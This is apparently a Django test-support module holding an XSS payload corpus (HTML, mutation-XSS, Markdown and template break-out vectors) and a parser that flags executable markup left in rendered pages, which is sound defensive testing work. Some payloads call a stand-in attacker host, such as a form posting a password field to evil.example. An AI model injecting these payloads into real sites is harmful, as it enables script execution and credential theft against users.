"""The XSS corpus and the check that no executable markup survives in a page.

PAYLOADS holds classic and Markdown-specific vectors: event handlers on every kind
of element, script and URL-scheme tricks (entities, case, whitespace, control
characters), raw-text and namespace confusions (mutation XSS), citation keys,
abbreviations, heading anchors, tables, and JSON-LD / template break-outs for the
title and summary.

`executable_markup(html)` parses a whole page and lists what a browser could run:
event-handler attributes, javascript:/vbscript:/data: URLs, script elements other
than the site's own (a same-origin src, or a JSON data block that parses), frames,
objects, base, meta refresh, forms posting elsewhere, stylesheets from elsewhere and
inline styles. The site's templates use none of these, so any hit came from a payload.
"""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser

from django.conf import settings

_TAGS = ["img", "svg", "body", "iframe", "video", "audio", "details", "input", "select",
         "textarea", "marquee", "object", "embed", "a", "div", "span", "math", "form",
         "button", "table", "td", "image", "source", "x", "style", "link", "isindex",
         "frameset", "keygen", "p"]  # fmt: skip
_HANDLERS = [
    "<{t} src=x onerror=alert(1)>",
    '<{t} onload="alert(1)">x</{t}>',
    "<{t} autofocus onfocus=alert(1)>",
    "<{t}/onmouseover=alert(1)>x</{t}>",
    '<{t} ONCLICK="alert(1)" tabindex=1>x</{t}>',
]

_CLASSIC = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "<scr\x00ipt>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><script>alert(1)</script>',
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img src=`x` onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<x onclick=alert(1)>click me",
    '<a href="#" onclick="alert(1)">x</a>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<img src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<form action="https://evil.example/steal"><input name=password></form>',
    "<button formaction=javascript:alert(1)>x</button>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<link rel=import href=//evil.example/x.html>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="10">x</text></a></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><img src=x onerror=alert(1)></template>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<p style="position:fixed;inset:0;z-index:9">overlay</p>',
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<select><option><img src=x onerror=alert(1)></option></select>",
    "<table><tr><td><img src=x onerror=alert(1)></td></tr></table>",
    '<div id="x" data-x="</div><img src=x onerror=alert(1)>">',
    "<a href=https://evil.example target=_blank>tabnabbing</a>",
    "<img src=x onerror=\u0061lert(1)>",
    "＜script＞alert(1)＜/script＞",  # noqa: RUF001  (fullwidth brackets on purpose)
    "{{ request.user.password }}{% debug %}",
    "${alert(1)}",
    "\u2028</script><script>alert(1)</script>",
    '"}]}</script><script>alert(1)</script>',
    "javascript:alert(1)",
]

_MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](<javascript:alert(1)>)",
    "[x](javascript://%0aalert(1))",
    '[x]("onmouseover="alert(1))',
    '[x](https://a.example "t\\" onmouseover=\\"alert(1)")',
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](x)',
    '![x](https://a.example/x.png"onerror="alert(1))',
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: https://a.example 'onmouseover=alert(1)'",
    "[x](https://a.example/<script>alert(1)</script>)",
    "**<img src=x onerror=alert(1)>**",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>",
    "- <svg onload=alert(1)>",
    "| <img src=x onerror=alert(1)> |\n|-|\n| <a href=javascript:alert(1)>x</a> |",
    "Term <svg onload=alert(1)>\n: <img src=x onerror=alert(1)>",
    '## Title {#x" onclick="alert(1)}',
    "## Title {#javascript:alert(1)}",
    '*[XSS]: " onmouseover="alert(1)\n\nAn XSS here.',
    "*[XSS]: <img src=x onerror=alert(1)>\n\nAn XSS here.",
    "[@<script>alert(1)</script>]",
    '[@" onmouseover="alert(1)]',
    "[@k; @<img src=x onerror=alert(1)>]",
    '[@doi:10.1/"><script>alert(1)</script>]',
    "[@pmid:<svg onload=alert(1)>]",
    "[see [@x](javascript:alert(1))](javascript:alert(2))",
    "<div>\n\n[x](javascript:alert(1))\n\n</div>",
    "<a href='javascript:alert(1)'>\n\n**x**\n\n</a>",
    "[x](https://a.example)<img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
]

PAYLOADS: list[str] = [
    *(h.format(t=t) for t in _TAGS for h in _HANDLERS[:3]),
    *(h.format(t=t) for t in _TAGS[:12] for h in _HANDLERS[3:]),
    *_CLASSIC,
    *_MARKDOWN,
]

_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster",
                   "background", "srcset", "codebase", "cite", "longdesc", "ping", "lowsrc",
                   "dynsrc", "manifest", "icon", "to", "values", "from", "by"}  # fmt: skip
# Elements that load or run something by themselves (handlers and URLs are checked
# on every element, svg and math included).
_FORBIDDEN_TAGS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "style",
                   "portal", "xmp", "plaintext"}  # fmt: skip
_BAD_SCHEME = re.compile(r"^(javascript|vbscript|livescript|data|file):")
_CONTROL = re.compile(r"[\x00-\x20\x7f]+")


def _url_is_dangerous(value: str) -> bool:
    return bool(_BAD_SCHEME.match(_CONTROL.sub("", value).lower()))


class _Scanner(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._script: dict[str, str | None] | None = None
        self._script_text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check(tag, attrs)
        if tag == "script":
            self._script = dict(attrs)
            self._script_text = []

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check(tag, attrs)

    def handle_data(self, data: str) -> None:
        if self._script is not None:
            self._script_text.append(data)

    def handle_endtag(self, tag: str) -> None:
        if tag == "script" and self._script is not None:
            self._check_script(self._script, "".join(self._script_text))
            self._script = None

    def _check(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=…> event handler")
            elif name in ("style", "srcdoc"):
                self.problems.append(f"<{tag} {name}=…>")
            elif name in _URL_ATTRIBUTES and value and _url_is_dangerous(value):
                self.problems.append(f"<{tag} {name}={value!r}>")
        if tag in _FORBIDDEN_TAGS and not _our_reader_frame(tag, values):
            self.problems.append(f"<{tag}> element")
        if tag == "meta" and "http-equiv" in values:
            self.problems.append("<meta http-equiv> element")
        if tag == "link" and not _same_site(values.get("href") or ""):
            self.problems.append(f"<link href={values.get('href')!r}>")
        if tag == "form" and not (values.get("action") or "/").startswith("/"):
            self.problems.append(f"<form action={values.get('action')!r}>")

    def _check_script(self, attrs: dict[str, str | None], text: str) -> None:
        src = attrs.get("src") or ""
        kind = attrs.get("type") or ""
        if src:
            if not _same_site(src) or text.strip():
                self.problems.append(f"<script src={src!r}>")
        elif kind in ("application/ld+json", "application/json"):
            try:
                json.loads(text)
            except ValueError:
                self.problems.append("a JSON script block that is not JSON (broken out of)")
        else:
            self.problems.append(f"inline <script>: {text[:60]!r}")


def _our_reader_frame(tag: str, values: dict[str, str | None]) -> bool:
    """The review screen's own frame: a sandboxed, same-origin page of the workbench."""
    src = values.get("src") or ""
    return (
        tag == "iframe"
        and re.fullmatch(r"/admin/articles/article/\d+/review/read/\d+/(\?[\w=&]*)?", src)
        is not None
        and "srcdoc" not in values
        and "allow-scripts" not in (values.get("sandbox") or "allow-scripts")
    )


def _same_site(url: str) -> bool:
    # Absolute URLs the site prints itself (canonical link, feeds) start with SITE_URL.
    return (url.startswith("/") and not url.startswith("//")) or url.startswith(
        f"{settings.SITE_URL}/"
    )


def executable_markup(html: str) -> list[str]:
    scanner = _Scanner()
    scanner.feed(html)
    scanner.close()
    if scanner._script is not None:  # never closed: the browser runs it to the end
        scanner._check_script(scanner._script, "".join(scanner._script_text))
    return scanner.problems
